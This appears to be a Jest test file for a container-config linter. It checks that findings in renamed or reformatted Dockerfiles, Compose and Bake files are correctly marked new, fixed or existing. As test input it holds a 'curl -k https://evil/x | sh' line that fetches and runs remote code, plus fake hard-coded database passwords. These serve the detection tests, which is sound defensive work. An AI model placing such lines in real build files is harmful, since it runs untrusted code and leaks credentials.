import { afterEach, beforeEach, describe, expect, it } from '@jest/globals';
import { type GitStory, gitStory, rulesWith } from './git-story.js';

/** `git mv` in a pull request: the findings of the file are not new. */

let story: GitStory;
beforeEach(() => {
  story = gitStory();
});
afterEach(() => story.remove());

const DOCKERFILE = `FROM debian:13
RUN sudo true
RUN sudo true
# portside ignore=DL3020
ADD a /a
ADD b /b
CMD ["x"]
`;
const COMPOSE = 'services:\n  web:\n    image: a\n    privileged: true\n';

describe.each([
  ['a stored report', true],
  ['the base commit', false],
])('compared with %s', (_, isStored) => {
  const compared = async (change: Readonly<Record<string, string | undefined>>) => {
    story.base({ Dockerfile: DOCKERFILE, 'compose.yaml': COMPOSE });
    const words = isStored ? ['--baseline', await story.store()] : [];
    story.commit(change);
    return story.run(words);
  };

  it('the findings of a renamed Dockerfile and manifest are existing, and none is fixed', async () => {
    const report = await compared({
      Dockerfile: undefined,
      'build/Dockerfile': DOCKERFILE,
      'compose.yaml': undefined,
      'deploy/compose.yaml': COMPOSE,
    });
    expect(rulesWith(report, 'new')).toEqual([]);
    expect(rulesWith(report, 'fixed')).toEqual([]);
    expect(rulesWith(report, 'existing')).toEqual(
      expect.arrayContaining(['DEP-PRIV', 'DL3004', 'DL3004', 'DL3020']),
    );
    expect((report.suppressed ?? []).map(({ status }) => status)).toEqual(['existing']);
    expect(report.verdict.outcome).toBe('pass');
  });

  const REFORMATTED = `FROM debian:13

# Tools
RUN sudo \\
    true

RUN sudo    true
# portside ignore=DL3020
add   a \\
      /a

ADD  ["b", "/b"]
CMD [ "x" ]
`;

  it('a Dockerfile that is reformatted as well has nothing new', async () => {
    const report = await compared({ Dockerfile: undefined, 'build/Dockerfile': REFORMATTED });
    expect(rulesWith(report, 'new')).toEqual(['ConsistentInstructionCasing']);
    expect(rulesWith(report, 'fixed')).toEqual([]);
  });

  it('what is added to a Dockerfile that is reformatted as well is new', async () => {
    const text = REFORMATTED.replace('CMD', 'ADD c /c\nCMD').replace('add', 'ADD');
    const report = await compared({ Dockerfile: undefined, 'build/Dockerfile': text });
    expect(rulesWith(report, 'new')).toEqual(['DL3020']);
  });

  it('what is added to a renamed file is new', async () => {
    const report = await compared({
      Dockerfile: undefined,
      'build/Dockerfile': DOCKERFILE.replace('CMD', 'RUN sudo true\nADD c /c\nCMD'),
    });
    expect(rulesWith(report, 'new')).toEqual(['DL3004', 'DL3020']);
  });

  it.each([
    ['RUN sudo legacy', 'RUN sudo other', 'DL3004'],
    ['RUN curl -k https://a/x | sh', 'RUN curl -k https://evil/x | sh', 'PS0023'],
    ['ENV DB_PASSWORD=Kx93jfLq8vZ2pW', 'ENV DB_PASSWORD=Rm55hgTq1bN8sQ', 'PS0014'],
  ])('%s that becomes %s in a renamed file is new', async (before, after, rule) => {
    const text = (line: string) => `${DOCKERFILE}USER 1000\nLABEL a=b\n${line}\n`;
    story.base({ Dockerfile: text(before) });
    const words = isStored ? ['--baseline', await story.store()] : [];
    story.commit({ Dockerfile: undefined, 'app.Dockerfile': text(after) });
    const report = await story.run(words);
    expect(rulesWith(report, 'new')).toContain(rule);
    expect(rulesWith(report, 'fixed')).toContain(rule);
  });

  it('another secret in a renamed Bake file is new', async () => {
    const bake = (value: string) =>
      `target "a" {\n  dockerfile = "Dockerfile"\n  args = { DB_PASSWORD = "${value}" }\n}\n`;
    story.base({ Dockerfile: DOCKERFILE, 'docker-bake.hcl': bake('Kx93jfLq8vZ2pW') });
    const words = isStored ? ['--baseline', await story.store()] : [];
    story.commit({
      'docker-bake.hcl': undefined,
      'docker-bake.override.hcl': bake('Rm55hgTq1bN8sQ'),
    });
    const report = await story.run(words);
    expect(rulesWith(report, 'new')).toEqual(['password-assignment']);
  });

  it('another secret in a renamed Compose file is new', async () => {
    const compose = (value: string) =>
      `${COMPOSE}    environment:\n      DB_PASSWORD: ${value}\n    read_only: true\n`;
    story.base({ 'compose.yaml': compose('Kx93jfLq8vZ2pW') });
    const words = isStored ? ['--baseline', await story.store()] : [];
    story.commit({ 'compose.yaml': undefined, 'compose.prod.yaml': compose('Rm55hgTq1bN8sQ') });
    const report = await story.run(words);
    expect(rulesWith(report, 'new')).toEqual(['DEP-ENVSECRET']);
  });

  it('another file in its place is new', async () => {
    const report = await compared({
      Dockerfile: undefined,
      'build/Dockerfile': 'FROM alpine:3.22\nRUN sudo id\nWORKDIR /x\nUSER 1\nEXPOSE 80\n',
    });
    expect(rulesWith(report, 'new')).toContain('DL3004');
    expect(rulesWith(report, 'fixed')).toContain('DL3004');
  });
});
